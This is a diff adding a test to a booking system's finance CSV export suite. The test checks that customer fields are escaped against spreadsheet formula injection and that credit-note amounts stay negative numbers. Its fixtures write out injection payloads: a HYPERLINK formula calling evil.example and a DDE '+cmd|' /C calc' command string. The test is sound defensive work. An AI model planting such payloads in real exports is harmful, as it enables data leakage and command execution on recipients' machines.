@@ -88,6 +88,28 @@ describe("exports", () => {
     expect(rows.filter((r) => r.type === "invoice").map((r) => r.number).sort()).toEqual(issuedToday.sort());
   });
 
+  it("defuses customer text a spreadsheet would run as a formula, and keeps credit notes' negative amounts as numbers", async () => {
+    const { session } = await createSessionFixture({ capacity: 4, priceAmount: 12_000 });
+    const tag = uniqueEmail("csv").split("@")[0];
+    const booking = await createPaidBooking(session.id, {
+      contact: { name: `=HYPERLINK("http://evil.example/?${tag}","Click")`, organisation: `+cmd|' /C calc'!A0 ${tag}` },
+      billing: { line1: "1 Test Street", city: "London", postalCode: "E1 6AN", country: "GB", vatId: "@SUM(1+1)" },
+    });
+    const invoice = (await invoiceOf(booking.id))!;
+    const actor = (await staffCookie("finance")).user;
+    const refund = await refundBooking(db(), { bookingId: booking.id, attendeeIds: [], amount: 1_000, reason: "Goodwill" }, actor);
+    const { cookie } = await staffCookie("finance");
+    const res = await call(csvRoute, `/admin/finance/export/csv?from=${today()}&to=${today()}`, cookie);
+    const rows = parse(await res.text(), { columns: true, bom: true }) as Record<string, string>[];
+    for (const n of [invoice.number, refund.creditNoteNumber]) {
+      const row = rows.find((r) => r.number === n)!;
+      expect(row.customer).toBe(`'=HYPERLINK("http://evil.example/?${tag}","Click")`);
+      expect(row.organisation).toBe(`'+cmd|' /C calc'!A0 ${tag}`);
+      expect(row.vat_id).toBe("'@SUM(1+1)");
+    }
+    expect(rows.find((r) => r.number === refund.creditNoteNumber)).toMatchObject({ gross: "-10.00", net: "-8.33", vat: "-1.67" });
+  });
+
   it("gives finance a ZIP of the range's PDFs with their checksums", async () => {
     const f = await fixtures();
     const { cookie } = await staffCookie("admin");
